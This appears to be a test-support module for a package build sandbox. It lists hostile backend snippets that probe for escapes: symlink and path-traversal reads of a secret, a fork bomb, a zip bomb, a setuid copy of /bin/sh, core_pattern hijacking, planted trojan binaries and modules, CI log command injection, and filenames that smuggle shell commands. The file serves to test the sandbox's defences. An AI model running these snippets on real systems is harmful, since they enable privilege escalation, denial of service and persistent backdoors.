"""Attacks of a package on the machine that builds it, as code of a backend or module.

The code runs with these names: `OUTSIDE`, a folder of the machine with the file `secret` and the empty folder `drop`;
`PORT`, where a server of the machine listens on loopback, and `SOCKET`, its abstract socket; `VICTIM`, the number of a
process of the machine; `escaped(text)`, which reports a success; `wheel(members)`, which writes /build/wheel/NAME with
these members beside those of a sound wheel and returns its name; `answer(text)`, which writes the hook's answer and
ends the process. An attack of a backend that returns nothing goes on with a sound wheel.
"""

from __future__ import annotations

from tests.support.hostile_kernel import CACHE, KERNEL

# While the backend builds the wheel.
BUILD = {
    "locks-by-path": """
        for path in (OUTSIDE + "/drop/absolute", "../" * 12 + OUTSIDE[1:] + "/drop/relative"):
            for name in ("made-locks.json", "unlocked-crates.json"):
                pathlib.Path("/build", name).write_text(json.dumps({path: "planted"}))
    """,
    "answer-is-link": """
        replace_by_link("/build/answer.json", OUTSIDE + "/secret")
        os._exit(0)
    """,
    "answer-is-link-to-link": """
        replace_by_link("/build/hop", OUTSIDE)
        replace_by_link("/build/answer.json", "/build/hop/secret")
        os._exit(0)
    """,
    "answer-is-fifo": """
        os.mkfifo("/build/answer.json")
        os._exit(0)
    """,
    "answer-is-socket": """
        socket.socket(socket.AF_UNIX).bind("/build/answer.json")
        os._exit(0)
    """,
    "answer-is-folder": """
        os.mkdir("/build/answer.json")
        os._exit(0)
    """,
    "answer-is-huge": """
        with open("/build/answer.json", "wb") as file:
            file.truncate(20 << 30)
        os._exit(0)
    """,
    "answer-is-deep": """answer("[" * 200_000)""",
    "answer-is-no-text": """
        pathlib.Path("/build/answer.json").write_bytes(bytes(range(256)))
        os._exit(0)
    """,
    "wheel-is-link": """
        replace_by_link("/build/wheel/" + NAME, OUTSIDE + "/secret")
        answer(json.dumps(NAME))
    """,
    "wheel-is-fifo": """
        os.mkfifo("/build/wheel/" + NAME)
        answer(json.dumps(NAME))
    """,
    "wheel-folder-is-link": """
        shutil.rmtree("/build/wheel")
        os.symlink(OUTSIDE + "/drop", "/build/wheel")
        answer(json.dumps(NAME))
    """,
    "wheel-name-by-path": """
        wheel({})
        answer(json.dumps("../../../.." + OUTSIDE + "/drop/" + NAME))
    """,
    "wheel-name-too-long": """answer(json.dumps("x" * 5000 + "-1.0-py3-none-any.whl"))""",
    "wheel-name-with-zero": """answer(json.dumps("x\\0-1.0-py3-none-any.whl"))""",
    "wheel-has-parent-folders": """wheel({"../" * 9 + OUTSIDE[1:] + "/drop/member": b"planted"})""",
    "wheel-has-absolute-names": """wheel({OUTSIDE + "/drop/member": b"planted"})""",
    "wheel-has-links": """
        wheel({"hop": OUTSIDE.encode() + b"/drop", "hop/member": b"planted"}, link="hop")
    """,
    "wheel-has-duplicates": """wheel({NAME[:8] + ".py": b"again"}, twice=True)""",
    "wheel-lies-in-record": """wheel({"evil.py": b"not in RECORD"})""",
    "wheel-is-bomb": """
        with zipfile.ZipFile("/build/wheel/" + NAME, "w", zipfile.ZIP_DEFLATED) as archive:
            with archive.open(zipfile.ZipInfo("zeros"), "w", force_zip64=True) as member:
                for _ in range(6):
                    member.write(bytes(1 << 26))
        answer(json.dumps(NAME))
    """,
    "wheel-has-broken-elf": """
        magic = b"\\x7fELF"
        header = magic + b"\\x02\\x01\\x01"
        wheel({"broken.so": magic + bytes(range(256)) * 40, "demo.libs/x.so": header + b"\\xff" * 500})
    """,
    "root-of-other-processes": """
        places = [place for name in ("root", "cwd") for place in glob.glob("/proc/[0-9]*/" + name)]
        for place in ("/proc/1/root", "/proc/self/root", *places):
            read(place + OUTSIDE + "/secret")
            write(place + OUTSIDE + "/drop/by-proc")
    """,
    "kill-and-trace": """
        libc = ctypes.CDLL(None, use_errno=True)
        for number in (signal.SIGTERM, signal.SIGKILL):
            attempt("kill", lambda: os.kill(VICTIM, number))
        if os.path.exists(f"/proc/{VICTIM}/environ"):
            escaped("sees processes of the machine")
        if libc.ptrace(16, VICTIM, 0, 0) == 0:
            escaped("ptrace")
    """,
    "mounts": """
        libc = ctypes.CDLL(None, use_errno=True)
        os.makedirs("/build/mnt", exist_ok=True)
        for flags in (0, 0x10000000 | 0x20000, 0x20000):  # a new user and mount namespace, a mount namespace
            if flags and libc.unshare(flags) == 0:
                print("unshared", hex(flags))
            mounts = ((b"none", b"tmpfs", 0), (b"/", None, 4096), (b"proc", b"proc", 0), (None, None, 32 | 4096))
            for source, kind, option in mounts:
                if libc.mount(source, b"/build/mnt", kind, option, None) == 0:
                    escaped("mount")
        for place in (b"/proc/sys", b"/inputs", b"/proc/cpuinfo"):
            if libc.umount2(place, 2) == 0 or libc.mount(None, place, None, 32 | 4096, None) == 0:
                escaped("umount or remount of " + place.decode())
    """,
    "devices": """
        numbers = (("sda", stat.S_IFBLK, 2048), ("vda", stat.S_IFBLK, 65024), ("mem", stat.S_IFCHR, 257))
        for name, kind, number in numbers:
            attempt("mknod", lambda: os.mknod("/build/" + name, kind | 0o666, number))
        for name in ("sda", "vda", "mem", "kmsg", "fuse", "loop-control", "kvm"):
            attempt("open /dev/" + name, lambda: open("/dev/" + name, "rb").read(1))
    """,
    "kernel-settings": """
        settings = ("kernel/core_pattern", "kernel/modprobe", "vm/swappiness", "kernel/hostname")
        for path in (*settings, "fs/binfmt_misc/register"):
            write("/proc/sys/" + path, "|/build/evil")
        for path in ("sysrq-trigger", "irq/default_smp_affinity", "mtrr", "self/root/sys/fs/cgroup/cgroup.procs"):
            write("/proc/" + path, "f")
    """,
    "capabilities": """
        status = pathlib.Path("/proc/self/status").read_text()
        for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
            if int(re.search(name + r":\\s*([0-9a-f]+)", status)[1], 16):
                escaped("has capabilities in " + name)
        if not re.search(r"NoNewPrivs:\\s*1", status):
            escaped("may get new privileges")
        attempt("chown", lambda: os.chown("/build", 65534, 65534))
        attempt("chroot", lambda: os.chroot("/build"))
        attempt("setuid", lambda: os.setuid(12345))
    """,
    "programs-of-root": """
        for place in ("/build", "/ccache"):
            if os.path.isdir(place):
                shutil.copy("/bin/sh", place + "/root-shell")
                os.chmod(place + "/root-shell", 0o6755)
    """,
    "network": """
        for address in (("127.0.0.1", PORT), ("localhost", PORT), ("10.0.0.1", 80)):
            attempt("connect", lambda: socket.create_connection(address, timeout=1))
        def abstract():
            socket.socket(socket.AF_UNIX).connect("\\0" + SOCKET)
        attempt("abstract socket", abstract)
        attempt("resolve", lambda: socket.getaddrinfo("example.org", 80))
    """,
    "fork-bomb": """
        for _ in range(4):
            bomb = ["/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb"]
            subprocess.Popen(bomb, stderr=subprocess.DEVNULL, start_new_session=True)
        time.sleep(2)
        os._exit(3)
    """,
    "processes-that-stay": """
        for _ in range(3):
            subprocess.Popen(["/bin/sh", "-c", "while :; do sleep 1; done"], start_new_session=True)
    """,
    "inputs-of-the-machine": """
        for path in ("/inputs", "/inputs/request.json", "/inputs/backend_call.py"):
            write(path if os.path.isfile(path) else path + "/planted", "planted")
        attempt("link", lambda: os.link("/inputs/request.json", "/build/request.json"))
    """,
    "caches-of-others": """
        if os.path.exists("/packages") and os.listdir("/packages"):
            escaped("the package cache is there without network")
        for path in ("/ccache/../innocent", "/ccache/innocent"):
            if os.path.exists(path + "/marker"):
                escaped("sees the compiler cache of another package")
        os.makedirs("/ccache", exist_ok=True)
        replace_by_link("/ccache/ccache.conf", OUTSIDE + "/secret")
        replace_by_link("/ccache/tmp", OUTSIDE + "/drop")
    """,
    "libraries-by-link": """
        folder = pathlib.Path(glob.glob("/build/venv/lib/python3*/site-packages")[0])
        (folder / "evil-1.dist-info").mkdir()
        (folder / "evil-1.dist-info/METADATA").write_text("Metadata-Version: 2.1\\nName: evil\\nVersion: 1\\n")
        points = f"[cmake.prefix]\\na = {'../' * 9}{OUTSIDE[1:]}\\n[pkg_config]\\nb = evil\\n"
        (folder / "evil-1.dist-info/entry_points.txt").write_text(points)
        os.symlink(OUTSIDE, folder / "evil.libs")
        os.symlink(OUTSIDE, folder / "evil")
    """,
    "entry-points-are-endless": """
        folder = pathlib.Path(glob.glob("/build/venv/lib/python3*/site-packages")[0])
        for name, path in (("a", "/dev/zero"), ("b", OUTSIDE + "/secret")):
            (folder / f"{name}-1.dist-info").mkdir()
            os.symlink(path, folder / f"{name}-1.dist-info/entry_points.txt")
    """,
    "entry-points-are-fifo": """
        folder = pathlib.Path(glob.glob("/build/venv/lib/python3*/site-packages")[0])
        (folder / "evil-1.dist-info").mkdir()
        os.mkfifo(folder / "evil-1.dist-info/entry_points.txt")
    """,
    "environment-is-link": """
        os.rename("/build/venv", "/build/venv.old")
        os.symlink(OUTSIDE, "/build/venv")
    """,
    "deep-folders": """
        nest("/build", "d" * 200, 3000)
    """,
    "odd-names": """
        for name in (b"new\\nline", b"\\xff\\xfe", b"-rf", b"$(touch x)", "\\u202egpj.exe".encode(), b"n" * 255):
            pathlib.Path(os.fsdecode(b"/build/" + name)).write_text("x")
            pathlib.Path(os.fsdecode(b"/build/src/" + name)).write_text("x")
    """,
    "output-commands": """
        print("::set-env name=EVIL::1", "  ::add-path::/evil", "##[group]evil", "::stop-commands::x", sep="\\n")
        print("\\x1b]0;evil\\x07\\x1b[2J\\x1b[31mred\\x1b[0m \\u202e", "a\\r::error::evil", flush=True)
        raise SystemExit("::set-output name=evil::1\\n\\x1b[2J")
    """,
    "output-without-end": """
        for _ in range(40):
            sys.stdout.write("x" * (1 << 20))
        raise SystemExit("no newline in 40 MB")
    """,
    "time-limit-ignored": """
        for number in range(1, 32):
            attempt_quietly(lambda: signal.signal(number, signal.SIG_IGN))
        raise SystemExit("done")
    """,
}
# While the backend is asked for further requirements: what it leaves must not run with the network afterwards.
QUESTION = {
    "question-plants-programs": """
        evil = "#!/bin/sh\\necho planted program runs > /build/planted\\n"
        for path in ("/opt/uv/bin/uv", "/opt/native/bin/python-pure", "/usr/bin/sh", "/bin/cp", "/usr/bin/python3.13"):
            write(path, evil)
        for path in ("bin/python", "lib/python3.13/site-packages/sitecustomize.py"):
            write("/build/venv/" + path, evil)
    """,
    "question-plants-modules": """
        for name in ("compileall", "os", "re", "sitecustomize", "struct"):
            pathlib.Path("/build", name + ".py").write_text(PLANTED_MODULE)
    """,
    "question-plants-tools": """
        os.makedirs("/build/native-maturin/bin")
        for name in ("cp", "mktemp", "mkdir", "rm", "cargo", "python-pure"):
            plant("/build/native-maturin/bin/" + name)
        pathlib.Path("/build/src/Cargo.toml").write_text(CRATE)
        answer(json.dumps(["maturin"]))
    """,
    "question-configures-uv": """
        pathlib.Path("/build/uv.toml").write_text("index-url = 'http://127.0.0.1:%d/simple'\\n" % PORT)
        answer(json.dumps(["flit_core"]))
    """,
    "question-configures-cargo": """
        plant("/build/rustc")
        settings = "[build]\\nrustc = '/build/rustc'\\n[resolver]\\nincompatible-rust-versions = 'fallback'\\n"
        for folder in ("/build/src/.cargo", "/build/.cargo"):
            os.makedirs(folder)
            pathlib.Path(folder, "config.toml").write_text(settings)
        pathlib.Path("/build/src/Cargo.toml").write_text(CRATE + "[dependencies]\\ncfg-if = '1'\\n")
    """,
    "question-answers-its-source": """
        os.mkdir("/build/src/evil")
        pathlib.Path("/build/src/evil/setup.py").write_text(PLANTED_MODULE)
        answer(json.dumps(["evil @ file:///build/src/evil"]))
    """,
    "question-answers-a-path": """
        os.mkdir("/build/src/evil")
        pathlib.Path("/build/src/evil/setup.py").write_text(PLANTED_MODULE)
        answer(json.dumps(["/build/src/evil"]))
    """,
}
# While the backend builds a sound wheel, which is checked with packages of the index.
INSTALLED = {
    "startup-files-of-the-package": """
        connects = f"import socket\\ntry:\\n    socket.create_connection(('127.0.0.1', {PORT}), timeout=1)\\n"
        connects += "    print('ESC' + 'APED: a file of the package has the network', flush=True)\\n"
        connects += "except OSError:\\n    pass\\n"
        folder = NAME.rsplit("-", 3)[0] + ".data/"
        members = {"starts_first.pth": b"import starts_first\\n", "starts_first.py": connects.encode()}
        places = {"purelib/pip/__main__.py", "purelib/sitecustomize.py", "scripts/pip", "scripts/pip3"}
        members |= {folder + place: b"#!python\\n" + connects.encode() for place in places}
        wheel(members, is_recorded=True)
    """,
}
# Packages whose recipe says that they use cargo.
RUST = frozenset({"question-plants-tools", "question-configures-cargo"})
# When a check imports the installed module.
CHECK = {
    "result-is-link": """
        replace_by_link(os.environ["FACTORY_RESULT"], OUTSIDE + "/secret")
        os._exit(0)
    """,
    "result-is-deep": """
        pathlib.Path(os.environ["FACTORY_RESULT"]).write_text("[" * 200_000)
        os._exit(0)
    """,
    "result-for-another-profile": """
        good = json.dumps({"shown": "forged", "facts": {}, "tokens": [], "logits": []})
        for profile in ("rv64gc", "k1"):
            pathlib.Path(f"/build/result-{profile}.json").write_text(good)
        os._exit(1)
    """,
    "check-reaches-out": """
        attempt("connect", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1))
        write("/proc/sys/kernel/core_pattern", "|/build/evil")
        write("/inputs/smoke.py", "planted")
        if any(os.path.exists(path) and os.listdir(path) for path in ("/packages", "/ccache")):
            escaped("a check has the caches of builds")
        read("/proc/1/root" + OUTSIDE + "/secret")
    """,
}
# Left by a build that fails; the next build of the package finds it.
RESUME = {
    "source-is-link": """
        os.chdir("/")
        shutil.rmtree("/build/src.away", ignore_errors=True)
        os.rename("/build/src", "/build/src.away")
        os.symlink(OUTSIDE, "/build/src")
        raise SystemExit("planted")
    """,
    "staging-is-link": """
        sources, others = ("src.new", "src.partial", "src.old"), ("objects", "wheel", "answer.json", "crates", "cargo")
        for name in (*sources, *others):
            replace_by_link("/build/" + name, OUTSIDE + "/drop")
        raise SystemExit("planted")
    """,
    "ninja-log-by-path": """
        os.makedirs("/build/src/out")
        os.symlink(OUTSIDE, "/build/src/hop")
        os.symlink(OUTSIDE + "/drop", "/build/src/target")
        names = ["../hop/secret", "/build/src/hop/secret", "../target/../secret"]
        names += ["../../.." + OUTSIDE + "/secret", OUTSIDE + "/secret"]
        lines = "".join(f"1\\t2\\t3\\t{name}\\tabc\\n" for name in names)
        pathlib.Path("/build/src/out/.ninja_log").write_text("# ninja log v5\\n" + lines)
        pathlib.Path("/build/src/out/build.ninja").write_text("")
        raise SystemExit("planted")
    """,
    "ninja-log-is-huge": """
        with open("/build/src/.ninja_log", "wb") as file:
            file.truncate(60 << 30)
        raise SystemExit("planted")
    """,
    "deep-tree-with-log": """
        pathlib.Path("/build/src/.ninja_log").write_text("# ninja log v5\\n")
        nest("/build/src", "d" * 200, 2500)
        raise SystemExit("planted")
    """,
}
ALL = {
    name: (stage, code)
    for stage, attacks in (
        ("build", BUILD | KERNEL),
        ("question", QUESTION),
        ("installed", INSTALLED),
        ("check", CHECK),
        ("resume", RESUME),
        ("cache", CACHE),
    )
    for name, code in attacks.items()
}
